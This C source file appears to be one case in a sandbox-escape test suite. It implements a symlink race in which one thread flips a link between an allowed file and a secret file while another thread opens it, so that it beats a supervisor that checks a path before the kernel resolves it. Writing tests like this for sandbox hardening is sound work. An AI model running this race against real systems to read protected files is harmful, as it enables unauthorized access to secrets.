/* e0201-symlink-race - symlink race between the check and the kernel's
 * own lookup.
 *
 * Attack: one thread keeps replacing a symbolic link (atomically, by
 * rename over it) so that it points now at an allowed file, now at the
 * secret, while another thread opens and reads the link.  A supervisor
 * that resolves the link when it checks, then lets the kernel resolve it
 * again, is beaten when the link changes in between.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (symbolic link races);
 * Watson 2007.
 * Usage: e0201-symlink-race ALLOWED SECRET   (links are made in the cwd) */
#include <pthread.h>
#include <stdio.h>
#include <unistd.h>

#include "escape.h"

static const char *allowed, *secret;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		if (symlink(secret, "e0201-next") == 0)
			rename("e0201-next", "e0201-link");
		if (symlink(allowed, "e0201-next") == 0)
			rename("e0201-next", "e0201-link");
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0201-symlink-race ALLOWED SECRET");
	allowed = argv[1];
	secret = argv[2];
	char expect[512];
	if (esc_read_file(allowed, expect, sizeof expect) < 0)
		esc_die(allowed);
	unlink("e0201-link");
	unlink("e0201-next");
	if (symlink(allowed, "e0201-link") < 0)
		esc_die("symlink");
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	esc_race_open("open of the flipping symlink", "e0201-link", expect);
	stop = 1;
	pthread_join(t, NULL);
	unlink("e0201-link");
	unlink("e0201-next");
	return 0;
}
